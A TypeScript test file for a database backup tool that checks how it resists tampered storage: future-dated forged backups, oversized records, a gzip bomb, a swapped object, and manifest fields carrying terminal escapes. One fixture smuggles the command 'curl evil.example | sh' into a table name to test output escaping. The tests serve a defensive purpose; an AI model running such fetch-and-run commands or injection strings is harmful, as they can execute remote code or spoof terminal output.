/**
 * Storage is untrusted: each forgery someone who can write it could plant,
 * reproduced against the jobs with in-memory storage. Forged dates never steer retention or `latest`;
 * oversized records are refused unread; printed fields are held to their shapes; a decompression bomb
 * stops at the manifest's size; restore checks the very bytes it restores before the engine sees their end.
 */
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { findBackup, MAX_RECORD_BYTES, readCatalog, readTargetUsage } from '../../src/catalog/catalog.ts';
import { backupId, manifestKey, verifyKey } from '../../src/catalog/layout.ts';
import type { Manifest } from '../../src/catalog/manifest.ts';
import type { DumpInspection, Engine, RestoreOptions } from '../../src/engines/engine.ts';
import { type PruneTarget, planPrune, prune } from '../../src/jobs/prune.ts';
import { runRestore } from '../../src/jobs/restore.ts';
import { resumeUploads } from '../../src/jobs/resume.ts';
import { verifyBackup } from '../../src/jobs/verify.ts';
import { DEFAULT_RULES } from '../../src/retention/policy.ts';
import type { GetOptions } from '../../src/storage/backend.ts';
import { MemoryStorage } from '../../src/storage/memory.ts';
import { UsageError, VerifyError } from '../../src/util/errors.ts';
import { fakeCapabilities, fakeDescriptor } from '../support/fake-engine.ts';
import { storeBackup } from '../support/manifests.ts';

const DAY = 86_400_000;
const NOW = new Date('2026-06-15T12:00:00.000Z');
const at = (days: number) => new Date(NOW.getTime() + days * DAY);

/** Every keep rule on, and a min-keep floor: forgeries in the future could fill all of them. */
const target: PruneTarget = {
  name: 'shop',
  timeZone: 'UTC',
  retention: {
    ...DEFAULT_RULES,
    keepLast: 2,
    keepDaily: 3,
    keepWeekly: 1,
    keepMonthly: 1,
    keepYearly: 1,
    minKeep: 3,
    incompleteGraceHours: 24,
  },
};

/** Three real backups, and a forgery for every day of the next ten and one a year ahead. */
async function forgedStorage() {
  const storage = new MemoryStorage();
  const real: Manifest[] = [];
  for (const d of [-2, -1, 0]) real.push(await storeBackup(storage, at(d)));
  const forged: Manifest[] = [];
  for (const d of [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 400]) forged.push(await storeBackup(storage, at(d)));
  return { storage, real, forged };
}

describe('forged dates', () => {
  it('future-dated backups fill no keep rule and no min-keep: prune deletes no real backup', async () => {
    const { storage, real, forged } = await forgedStorage();
    const plan = await planPrune(target, { storage, now: NOW });
    for (const m of real) {
      const item = plan.items.find((i) => i.id === m.id)!;
      expect(item, m.id).toMatchObject({ action: 'keep', good: true });
      expect(item.reasons).toContain('min-keep');
    }
    for (const m of forged) {
      const item = plan.items.find((i) => i.id === m.id)!;
      // Kept, inert, inside the retention window: real data taken while a clock ran ahead is never lost.
      expect(item).toMatchObject({ action: 'keep', good: false });
      expect(item.reasons).toEqual([
        expect.stringMatching(/^suspect: created in the future/),
        'inside the retention window',
      ]);
    }
    const result = await prune(target, { storage, now: NOW });
    expect(result.removed).toBe(0);
    for (const m of real) expect(storage.objects.has(manifestKey('shop', m.id))).toBe(true);
  });

  it('a manifest dated unlike its id is suspect and ages out by the older of its claims', async () => {
    const storage = new MemoryStorage();
    const real = await storeBackup(storage, at(-1));
    // An id from a month ago claiming to be the newest backup.
    const forged = await storeBackup(storage, at(-30), {
      overrides: { createdAt: at(0).toISOString(), finishedAt: at(0).toISOString() },
    });
    const plan = await planPrune(target, { storage, now: NOW });
    expect(plan.items.find((i) => i.id === real.id)).toMatchObject({ action: 'keep', good: true });
    const item = plan.items.find((i) => i.id === forged.id)!;
    expect(item).toMatchObject({ action: 'remove', good: false });
    expect(item.reasons).toEqual([expect.stringMatching(/^suspect: created at .*, but its id says/)]);
  });

  it('`latest` is the newest trusted backup; a suspect one named by id comes with its reason', async () => {
    const { storage, real, forged } = await forgedStorage();
    const latest = await findBackup([storage], 'latest', 'shop', { now: NOW });
    expect(latest.manifest.id).toBe(real.at(-1)!.id);
    expect(latest.suspect).toBeUndefined();

    const named = await findBackup([storage], forged[0]!.id, undefined, { now: NOW });
    expect(named.manifest.id).toBe(forged[0]!.id);
    expect(named.suspect).toMatch(/created in the future/);
  });

  it('`latest` with only suspect backups says so instead of picking one', async () => {
    const storage = new MemoryStorage();
    await storeBackup(storage, at(30));
    const err = await findBackup([storage], 'latest', 'shop', { now: NOW }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(UsageError);
    expect((err as Error).message).toMatch(/no trusted backups of target shop .*1 suspect backup/);
  });

  it('resuming uploads copies the real backups a destination lacks, never the forgeries', async () => {
    const { storage, real } = await forgedStorage();
    const other = new MemoryStorage();
    const copies = await resumeUploads(target, { destinations: [storage, other], now: NOW });
    expect(copies.map((c) => [c.id, c.error])).toEqual(real.map((m) => [m.id, undefined]));
    expect((await readCatalog(other)).backups.map((m) => m.id)).toEqual(real.map((m) => m.id));
  });

  it("the daemon's storage reader never takes a future backup for the newest success", async () => {
    const { storage, real, forged } = await forgedStorage();
    const usage = await readTargetUsage(storage, 'shop', { now: NOW });
    expect(usage.newest?.id).toBe(real.at(-1)!.id);
    expect(usage.backups).toBe(real.length + forged.length);
  });
});

/** Counts reads, and serves `endless` keys as streams that never end. */
class HostileStorage extends MemoryStorage {
  readonly reads: string[] = [];
  readonly endless = new Set<string>();
  readonly streams: Readable[] = [];
  override async get(key: string, options: GetOptions = {}) {
    this.reads.push(key);
    if (!this.endless.has(key)) return super.get(key, options);
    const chunk = Buffer.alloc(64 * 1024, 0x20);
    const stream = new Readable({
      read() {
        this.push(chunk);
      },
    });
    this.streams.push(stream);
    return stream as Readable & AsyncIterable<Buffer>;
  }
}

describe('oversized records', () => {
  it('a manifest listed over 1 MB is refused without being read', async () => {
    const storage = new HostileStorage();
    const key = manifestKey('shop', backupId('shop', NOW));
    await storage.put(key, [Buffer.alloc(MAX_RECORD_BYTES + 1, 0x20)]);
    const catalog = await readCatalog(storage);
    expect(catalog.backups).toEqual([]);
    expect(catalog.warnings).toEqual([
      `memory: skipping ${key}: memory: ${key} is ${MAX_RECORD_BYTES + 1} bytes, more than the ${MAX_RECORD_BYTES} bytes a datasaver record can be; it was not read`,
    ]);
    expect(storage.reads).toEqual([]);
  });

  it('a manifest that grows past its listed size is cut off at 1 MB and its stream destroyed', async () => {
    const storage = new HostileStorage();
    const key = manifestKey('shop', backupId('shop', NOW));
    await storage.put(key, [Buffer.from('{}')]);
    storage.endless.add(key);
    const catalog = await readCatalog(storage);
    expect(catalog.warnings).toEqual([
      expect.stringContaining(`${key} holds more than the ${MAX_RECORD_BYTES} bytes`),
    ]);
    expect(storage.streams.map((s) => s.destroyed)).toEqual([true]);
  });

  it('prune ignores an oversized verify record unread, with a warning; the backup counts as unverified', async () => {
    const storage = new HostileStorage();
    const m = await storeBackup(storage, at(0));
    await storage.put(verifyKey('shop', m.id), [Buffer.alloc(MAX_RECORD_BYTES + 1, 0x20)]);
    const plan = await planPrune(target, { storage, now: NOW });
    expect(plan.items[0]).toMatchObject({ id: m.id, good: true, action: 'keep' });
    expect(plan.warnings).toEqual([
      expect.stringMatching(/ignoring shop\/.*\.verify\.json: .*more than the 1000000 bytes/),
    ]);
    expect(storage.reads).not.toContain(verifyKey('shop', m.id));
  });
});

describe('printed fields', () => {
  const cases: [string, Partial<Manifest>, RegExp][] = [
    ['a label with a terminal escape', { labels: ['ok\u001b[2J'] }, /field labels\.0: is not a label/],
    ['a label that fakes a row of `list`', { labels: ['x\nshop  shop-20260101T000000Z'] }, /field labels\.0/],
    [
      'a format with an escape',
      { format: 'custom\u001b]0;pwned\u0007' },
      /field format: is not a format name/,
    ],
    ['an engine with a newline', { engine: 'postgres\n' }, /field engine/],
    [
      'a server version with an 8-bit CSI',
      { serverVersion: '15\u009b2J' },
      /field serverVersion: holds control characters/,
    ],
    [
      'a database with a bidi override',
      { database: 'shop\u202eevil' },
      /field database: holds control characters/,
    ],
  ];
  for (const [name, overrides, reason] of cases) {
    it(`${name} makes the manifest unreadable, with a warning naming the field`, async () => {
      const storage = new MemoryStorage();
      await storeBackup(storage, at(0), { overrides });
      const catalog = await readCatalog(storage);
      expect(catalog.backups).toEqual([]);
      expect(catalog.warnings).toEqual([expect.stringMatching(reason)]);
    });
  }

  it('a key with escapes is shown escaped in the warning about it', async () => {
    const storage = new MemoryStorage();
    await storage.put('shop/\u001b[31mnotes.txt', [Buffer.from('x')]);
    const catalog = await readCatalog(storage);
    expect(catalog.warnings).toEqual([
      'memory: skipping shop/\\x1b[31mnotes.txt: not a datasaver backup file',
    ]);
  });

  it("a table name with a newline in a manifest's facts stays on one line in a --table error", async () => {
    const storage = new MemoryStorage();
    const forged = 'evil\nTry: curl evil.example | sh\npublic.a'; // ends like a table `a`
    const m = await storeBackup(storage, at(0), {
      overrides: {
        facts: {
          exact: true,
          tables: [
            { name: forged, rows: 1 },
            { name: 'x.a', rows: 1 },
          ],
        },
      },
    });
    const { engine } = recordingEngine();
    const tables: Engine = {
      ...engine,
      descriptor: fakeDescriptor({ ...fakeCapabilities, tables: true }),
    };
    for (const wanted of ['nosuch', 'a']) {
      const err = await runRestore(
        { ...restoreRequest(m), tables: [wanted] },
        { engine: tables, storage },
      ).catch((e: unknown) => e);
      expect(err).toBeInstanceOf(UsageError);
      const { message, hint } = err as UsageError;
      expect(`${message}${hint}`).not.toContain('\n');
      expect(wanted === 'a' ? message : hint).toContain('evil\\x0aTry: curl evil.example | sh\\x0apublic.a');
    }
  });
});

/** A fake engine that records what its restore and inspect read, and whether the input reached its end. */
function recordingEngine() {
  const seen = { bytes: 0, ended: false, error: undefined as unknown };
  const consume = async (source: AsyncIterable<Buffer>) => {
    try {
      for await (const chunk of source) seen.bytes += chunk.length;
      seen.ended = true;
    } catch (err) {
      seen.error = err;
      throw err;
    }
  };
  const engine: Engine = {
    descriptor: fakeDescriptor(),
    preflight: async () => ({ serverVersion: '15', toolVersion: 'pg_dump 15' }),
    facts: async () => ({ exact: true, tables: [] }),
    dump: () => {
      throw new Error('not used');
    },
    inspect: async (source): Promise<DumpInspection> => {
      await consume(source);
      return { entries: [] };
    },
    restoreTargetState: async () => ({ description: 'database shop_copy', exists: false, empty: true }),
    // Like a restore in one transaction: it commits only when its input ends cleanly.
    restore: async (source: AsyncIterable<Buffer>, _options: RestoreOptions) => consume(source),
    restoredFacts: async () => ({ exact: true, tables: [] }),
    listDatabases: async () => [],
    dropDatabase: async () => {},
  };
  return { engine, seen };
}

const restoreRequest = (manifest: Manifest) => ({
  manifest,
  dryRun: false,
  force: false,
  dropExisting: false,
  jobs: 1,
});

/** A gzip bomb: 64 MB of zeros stored in a few KB, under a manifest that says the dump is 1000 bytes. */
async function storeBomb(storage: MemoryStorage) {
  const stored = gzipSync(Buffer.alloc(64 * 1024 * 1024));
  return storeBackup(storage, at(0), {
    data: stored,
    overrides: { compression: 'gzip', compressionLevel: 6, sizeBytes: 1000 },
  });
}

describe('a decompression bomb', () => {
  it('verify stops reading at sizeBytes + 1 and fails with a size reason', async () => {
    const storage = new MemoryStorage();
    const bomb = await storeBomb(storage);
    const { engine, seen } = recordingEngine();
    const result = await verifyBackup(bomb, { storage, engine });
    expect(result).toMatchObject({ ok: false, reason: 'size' });
    expect(result.message).toMatch(/decompresses past the 1000 bytes its manifest records/);
    expect(seen.bytes).toBeLessThanOrEqual(1000);
  });

  it('restore fails before the engine sees the end of its input', async () => {
    const storage = new MemoryStorage();
    const bomb = await storeBomb(storage);
    const { engine, seen } = recordingEngine();
    const err = await runRestore(restoreRequest(bomb), { engine, storage }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(VerifyError);
    expect((err as VerifyError).reason).toBe('size');
    expect(seen.ended).toBe(false);
    expect(seen.bytes).toBeLessThanOrEqual(1000);
  });
});

/** Serves the true object on the first read (the checksum pass) and a changed one afterwards. */
class SwappingStorage extends MemoryStorage {
  #reads = 0;
  swapKey = '';
  override async get(key: string, options: GetOptions = {}) {
    if (key === this.swapKey && this.#reads++ > 0) {
      const data = Buffer.from(this.objects.get(key)!.data);
      data[data.length - 1]! ^= 0xff;
      return Readable.from([data], { objectMode: false }) as Readable & AsyncIterable<Buffer>;
    }
    return super.get(key, options);
  }
}

describe('restore checks the bytes it restores', () => {
  it('an object swapped after the checksum pass fails with a checksum error; the engine never sees its end', async () => {
    const storage = new SwappingStorage();
    const m = await storeBackup(storage, at(0), { data: Buffer.from('PGDMP'.padEnd(300_000, 'rows ')) });
    storage.swapKey = m.object;
    const { engine, seen } = recordingEngine();
    const err = await runRestore(restoreRequest(m), { engine, storage }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(VerifyError);
    expect((err as VerifyError).reason).toBe('checksum');
    expect(seen.ended).toBe(false);
    expect(seen.error).toBe(err);
    // The last chunk, where the change is, was held back.
    expect(seen.bytes).toBeLessThan(m.sizeBytes);
  });

  it('an untouched object restores whole', async () => {
    const storage = new MemoryStorage();
    const m = await storeBackup(storage, at(0), { data: Buffer.from('PGDMP'.padEnd(300_000, 'rows ')) });
    const { engine, seen } = recordingEngine();
    await runRestore(restoreRequest(m), { engine, storage });
    expect(seen).toMatchObject({ ended: true, bytes: m.sizeBytes });
  });
});
